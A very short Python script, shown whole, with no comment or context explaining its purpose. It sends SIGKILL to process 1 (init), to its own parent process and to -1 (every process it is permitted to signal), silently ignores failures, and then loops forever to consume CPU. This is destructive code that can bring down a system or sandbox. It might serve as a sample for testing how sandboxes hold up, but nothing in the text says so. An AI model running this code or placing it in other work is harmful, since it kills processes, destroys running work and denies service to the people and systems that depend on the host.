import os
import signal

for victim in (1, os.getppid(), -1):
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass
while True:
    pass
